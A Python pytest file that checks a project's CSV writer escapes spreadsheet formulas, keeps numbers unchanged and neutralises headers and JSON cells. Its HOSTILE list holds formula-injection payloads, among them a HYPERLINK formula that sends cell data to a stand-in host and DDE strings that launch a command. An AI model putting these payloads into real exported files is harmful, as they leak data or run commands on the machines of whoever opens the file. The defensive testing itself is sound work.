"""CSV we write cannot run formulas in a spreadsheet; numbers stay numbers."""

from __future__ import annotations

import csv

import pytest

from tinytroupe.extraction import tables

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+cmd|'x'", "-2+3",
           "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-inf"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_is_written_as_text(tmp_path, value):
    path = tables.write_csv([{"name": "Ana", "answer": value}], tmp_path / "results.csv")
    text = path.read_text(encoding="utf-8")
    assert text.split("\n", 1)[1].startswith(f"Ana,{chr(34) if chr(34) in value else ''}'")
    if "\r" not in value:  # csv splits an unquoted carriage return into two rows when read back
        with open(path, newline="", encoding="utf-8") as fh:
            assert next(csv.DictReader(fh))["answer"] == "'" + value


@pytest.mark.parametrize("value,written", [(-3, "-3"), (2.5, "2.5"), ("-3", "-3"), ("+4.5", "+4.5"),
                                           ("1e3", "1e3"), ("plain", "plain"), ("a=b", "a=b")])
def test_numbers_and_plain_text_are_unchanged(tmp_path, value, written):
    text = tables.csv_text([{"v": value}])
    assert text.splitlines()[1] == written


def test_headers_and_json_cells_are_neutralised_too():
    text = tables.csv_text([{"=evil()": ["=1", 2], "ok": {"k": "v"}}])
    header, row = text.splitlines()
    assert header == "'=evil(),ok"
    assert row.startswith('"[""=1"", 2]"')  # a JSON list starts with '[' and is not a formula


def test_the_run_results_csv_goes_through_the_same_writer():
    import inspect

    from tinytroupe.cli import extract_spec

    assert "tables.write_csv(" in inspect.getsource(extract_spec)
